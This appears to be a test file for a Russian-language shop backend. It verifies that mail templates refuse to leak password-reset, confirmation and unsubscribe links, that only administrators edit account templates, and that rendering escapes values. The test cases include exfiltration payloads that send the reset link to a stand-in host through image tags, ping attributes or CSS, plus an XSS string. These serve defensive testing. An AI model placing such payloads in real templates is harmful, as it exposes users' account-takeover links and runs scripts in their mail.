// Mail templates and the secret links of letters. Probing found that a content editor could send the live
// link of a password reset to another site: `<img src="https://elsewhere/?u={{resetUrl}}">` in the
// auth.password_recovery template is fetched as soon as the letter is opened. Now a secret link (password
// reset, e-mail or subscription confirmation, unsubscribe) may stand only as the whole href of a link, an
// account template must keep its link, only an administrator edits the account (auth.*) templates, and a
// value can never leave the attribute or text it was put in.
import { and, desc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mailTemplates, outboxMessages, settings, smsTemplates, users } from '../generated/tables';
import { renderTemplate } from '../src/domains/messages/render';
import { ensureSystemTemplates, SYSTEM_MAIL_TEMPLATES } from '../src/domains/messages/system-templates';
import { signedInUser } from './accounts';
import { describeOnDatabases, startTestApp, type TestApp } from './harness';

type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';
const SITE = 'https://shop.test';

const errorOf = (res: { json: () => unknown }) =>
  (res.json() as { error: { code: string; message: string; fields?: Record<string, string> } }).error;

describeOnDatabases('mail templates keep their secret links on $name', (target) => {
  let t: TestApp;
  let content = '';
  const db = () => t.database.db;
  const call = (token: string, method: Method, url: string, payload?: object) =>
    t.app.inject({ method, url, headers: { authorization: token }, ...(payload ? { payload } : {}) });
  const mailTemplate = async (code: string) =>
    (await db().select().from(mailTemplates).where(eq(mailTemplates.code, code)))[0]!;
  const recovery = SYSTEM_MAIL_TEMPLATES.find((x) => x.code === 'auth.password_recovery')!;

  beforeAll(async () => {
    t = await startTestApp(target, { config: { siteUrl: SITE } });
    await ensureSystemTemplates(db());
    await db().insert(settings).values({ shopName: 'Лэш Шоп', supportPhone: '+7 800 000-00-00' });
    ({ token: content } = await signedInUser(t, {
      email: 'content@holes.test',
      name: 'Редактор',
      role: 'content',
      password: 'content-password-1',
    }));
  });
  afterAll(async () => {
    await t?.close();
  });

  it('refuses a reset link anywhere but the whole href of a link, naming the field in Russian', async () => {
    const before = await mailTemplate('auth.password_recovery');
    const link = '<p><a href="{{resetUrl}}">Сменить пароль</a></p>';
    const leaks = [
      // The probe: a picture that sends the live link to another site as soon as the letter is opened.
      `<p><img src="https://elsewhere.example/?u={{resetUrl}}"></p>${link}`,
      `<p><img src="{{resetUrl}}"></p>${link}`,
      `<p>Ссылка: {{resetUrl}}</p>${link}`,
      `<p><a href="https://elsewhere.example/?next={{resetUrl}}">Сменить пароль</a></p>`,
      `<p><a href="{{resetUrl}}&amp;from=mail">Сменить пароль</a></p>`,
      `<p><a href={{resetUrl}}>Сменить пароль</a></p>`,
      `<p><a title="{{resetUrl}}" href="{{resetUrl}}">Сменить пароль</a></p>`,
      `<p><a href="{{resetUrl}}" ping="https://elsewhere.example/">Сменить пароль</a></p>`,
      `<p><link rel="prefetch" href="{{resetUrl}}"></p>${link}`,
      `<!-- {{resetUrl}} -->${link}`,
      `<style>a { background: url("{{resetUrl}}") }</style>${link}`,
      `<textarea><a href="{{resetUrl}}">x</a></textarea>${link}`,
      // An end tag's attributes are dropped by parsers: the letter would keep its link in name only.
      `<p><a>Сменить пароль</a href="{{resetUrl}}"></p>`,
    ];
    for (const body of leaks) {
      const res = await call(t.adminToken, 'PUT', `/api/admin/mail-templates/${before.id}`, { body });
      expect(res.statusCode, body).toBe(400);
      const error = errorOf(res);
      expect(error.message, body).toMatch(/^Текст: /);
      expect(error.message, body).toContain('{{resetUrl}}');
      expect(error.fields?.body, body).toContain('только как адрес ссылки');
    }
    const subject = await call(t.adminToken, 'PUT', `/api/admin/mail-templates/${before.id}`, {
      subject: 'Ваша ссылка {{resetUrl}}',
    });
    expect(subject.statusCode).toBe(400);
    expect(errorOf(subject).fields?.subject).toContain('{{resetUrl}}');
    expect(await mailTemplate('auth.password_recovery')).toEqual(before);
  });

  it('refuses the other secret links the same way: e-mail and subscription confirmation, unsubscribe', async () => {
    const cases: [string, string][] = [
      [
        'auth.registration',
        '<img src="https://elsewhere.example/{{confirmUrl}}"><a href="{{confirmUrl}}">x</a>',
      ],
      ['newsletter.confirm', '<p>{{confirmUrl}}</p><a href="{{confirmUrl}}">x</a>'],
    ];
    for (const [code, body] of cases) {
      const { id } = await mailTemplate(code);
      const res = await call(t.adminToken, 'PUT', `/api/admin/mail-templates/${id}`, { body });
      expect(res.statusCode, code).toBe(400);
      expect(errorOf(res).fields?.body, code).toContain('{{confirmUrl}}');
    }
    // A newsletter template of the editor's own: its unsubscribe link too.
    const created = await call(content, 'POST', '/api/admin/mail-templates', {
      code: 'news.leak',
      title: 'Новинки',
      subject: 'Новинки',
      body: '<p>Новинки!</p><img src="https://elsewhere.example/?{{unsubscribeUrl}}">',
    });
    expect(created.statusCode).toBe(400);
    expect(errorOf(created).fields?.body).toContain('{{unsubscribeUrl}}');
    const fine = await call(content, 'POST', '/api/admin/mail-templates', {
      code: 'news.fine',
      title: 'Новинки',
      subject: 'Новинки',
      body: '<p>Новинки!</p><p><a href="{{unsubscribeUrl}}">Отписаться</a></p>',
    });
    expect(fine.statusCode, fine.body).toBe(201);
    // A mailing's free text is a template too.
    const mailing = await call(t.adminToken, 'POST', '/api/admin/messages/mailings', {
      channel: 'email',
      audience: 'subscribers',
      subject: 'Новинки',
      body: '<p>Новинки!</p><img src="https://elsewhere.example/?{{unsubscribeUrl}}">',
    });
    expect(mailing.statusCode).toBe(400);
    expect(errorOf(mailing).message).toContain('{{unsubscribeUrl}}');
  });

  it('refuses an account template without its link', async () => {
    const { id } = await mailTemplate('auth.password_recovery');
    const res = await call(t.adminToken, 'PUT', `/api/admin/mail-templates/${id}`, {
      body: '<p>Здравствуйте! Пароль можно сменить на сайте.</p>',
    });
    expect(res.statusCode).toBe(400);
    expect(errorOf(res).fields?.body).toContain('{{resetUrl}}');
    const [sms] = await db()
      .select()
      .from(smsTemplates)
      .where(eq(smsTemplates.code, 'auth.password_recovery'));
    const noCode = await call(t.adminToken, 'PUT', `/api/admin/sms-templates/${sms!.id}`, {
      body: 'Смените пароль на сайте',
    });
    expect(noCode.statusCode).toBe(400);
    expect(errorOf(noCode).fields?.body).toContain('{{code}}');
  });

  it('lets only an administrator change, switch off, delete or create account templates', async () => {
    const before = await mailTemplate('auth.password_recovery');
    const attempts: [Method, string, object?][] = [
      [
        'PUT',
        `/api/admin/mail-templates/${before.id}`,
        { body: recovery.body.replace('Здравствуйте', 'Добрый день') },
      ],
      ['PUT', `/api/admin/mail-templates/${before.id}`, { active: false }],
      ['PUT', `/api/admin/mail-templates/${before.id}`, { code: 'news.stolen' }],
      ['DELETE', `/api/admin/mail-templates/${before.id}`],
      [
        'POST',
        '/api/admin/mail-templates',
        { code: 'auth.extra', title: 'Ещё', subject: 'Тема', body: '<p>Текст</p>' },
      ],
    ];
    for (const [method, url, payload] of attempts) {
      const res = await call(content, method, url, payload);
      expect(res.statusCode, `${method} ${url} ${JSON.stringify(payload)}`).toBe(403);
      expect(errorOf(res).message).toContain('только администратор');
    }
    // An ordinary template the editor made may not become an account template either.
    const [news] = await db()
      .insert(mailTemplates)
      .values({ code: 'news.summer', title: 'Лето', subject: 'Лето', body: '<p>Лето</p>' })
      .returning({ id: mailTemplates.id });
    const renamed = await call(content, 'PUT', `/api/admin/mail-templates/${news!.id}`, {
      code: 'auth.password_recovery_2',
    });
    expect(renamed.statusCode).toBe(403);
    const [sms] = await db().select().from(smsTemplates).where(eq(smsTemplates.code, 'auth.registration'));
    const smsEdit = await call(content, 'PUT', `/api/admin/sms-templates/${sms!.id}`, { active: false });
    expect(smsEdit.statusCode).toBe(403);
    expect(await mailTemplate('auth.password_recovery')).toEqual(before);

    // The editor still edits the other system templates, and the administrator the account ones.
    const order = await mailTemplate('order.created');
    const edited = await call(content, 'PUT', `/api/admin/mail-templates/${order.id}`, {
      subject: 'Заказ № {{orderNumber}} оформлен',
    });
    expect(edited.statusCode, edited.body).toBe(200);
    const admin = await call(t.adminToken, 'PUT', `/api/admin/mail-templates/${before.id}`, {
      body: recovery.body.replace('Здравствуйте', 'Добрый день'),
    });
    expect(admin.statusCode, admin.body).toBe(200);
  });

  it('sends the reset link only in the link of the letter', async () => {
    await db().insert(users).values({ email: 'anna@holes.test', name: 'Анна', role: 'customer' });
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/auth/password/recovery',
      payload: { email: 'anna@holes.test' },
    });
    expect(res.statusCode).toBe(200);
    await t.afterResponse.idle();
    const [letter] = await db()
      .select()
      .from(outboxMessages)
      .where(
        and(
          eq(outboxMessages.recipient, 'anna@holes.test'),
          eq(outboxMessages.templateCode, 'auth.password_recovery'),
        ),
      )
      .orderBy(desc(outboxMessages.id));
    const token = /change-password\?token=([\w-]+)/.exec(letter!.body)![1]!;
    expect(letter!.body.split(token)).toHaveLength(2);
    expect(letter!.body).toContain(`<a href="${SITE}/change-password?token=${token}">`);
  });
});

describe('rendering a letter', () => {
  const hostile = 'x onmouseover=alert(1) "><script>alert(2)</script>\'`/';
  it('keeps every value inside its attribute, quoted or not, and out of tags', () => {
    // [template, whether the value stands where a space, = or / would end it]
    const cases: [string, boolean][] = [
      ['<p title="{{customerName}}">Привет</p>', false],
      ["<p title='{{customerName}}'>Привет</p>", false],
      ['<p>{{customerName}}</p>', false],
      ['<p title={{customerName}}>Привет</p>', true],
      ['<img alt={{customerName}} src="https://shop.test/a.png">', true],
      ['<p {{customerName}}>Привет</p>', true],
      ['<{{customerName}}>', true],
    ];
    for (const [text, bare] of cases) {
      const [before, after] = text.split('{{customerName}}') as [string, string];
      const html = renderTemplate(text, { customerName: hostile }, { html: true });
      expect(html.startsWith(before) && html.endsWith(after), text).toBe(true);
      const inserted = html.slice(before.length, html.length - after.length);
      expect(inserted, text).not.toMatch(/[<>"'`]/);
      if (bare) expect(inserted, text).not.toMatch(/[\s=/]/);
    }
    // Text keeps reading as text: the usual escapes and nothing more.
    expect(renderTemplate('<p>{{customerName}}</p>', { customerName: 'Анна & Co' }, { html: true })).toBe(
      '<p>Анна &amp; Co</p>',
    );
  });
});
